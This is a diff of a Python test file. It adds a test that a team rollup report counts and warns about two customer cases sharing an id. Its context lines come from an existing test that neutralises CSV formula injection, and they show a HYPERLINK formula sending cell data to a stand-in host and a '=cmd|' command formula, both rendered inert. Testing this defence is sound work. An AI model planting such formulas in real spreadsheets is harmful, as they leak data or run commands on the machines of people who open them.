@@ -206,3 +206,18 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(cli,
         assert {"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
                 "amy"} <= agents
     assert any(c.startswith("'=cmd|") for c in cells)  # the address, kept readable, made inert
+
+
+def test_a_rollup_reports_two_cases_sharing_an_id_instead_of_merging_them(cli, cfg, tmp_path):
+    cases = team_set(cfg)
+    team = tmp_path / "team"
+    team.mkdir()
+    clash = dict(cases["D"], id=cases["A"]["id"])  # another customer's case that drew the same id
+    store([cases["A"], cases["B"]], team / "amy.db")
+    store([clash, add_note(cases["B"], "copied file, later note")], team / "bob.db")
+    r = cli("report", "--format", "json", "--include-pii", "--db", str(team))
+    assert r.code == 0, r.err
+    figures = json.loads(r.out)
+    assert figures["total"] == 3  # A and its clash both counted; B (a copy) once
+    assert figures["duplicate_ids"] == [cases["A"]["id"]]
+    assert cases["A"]["id"] in r.err and "warning" in r.err and r.err.count("\n") == 1
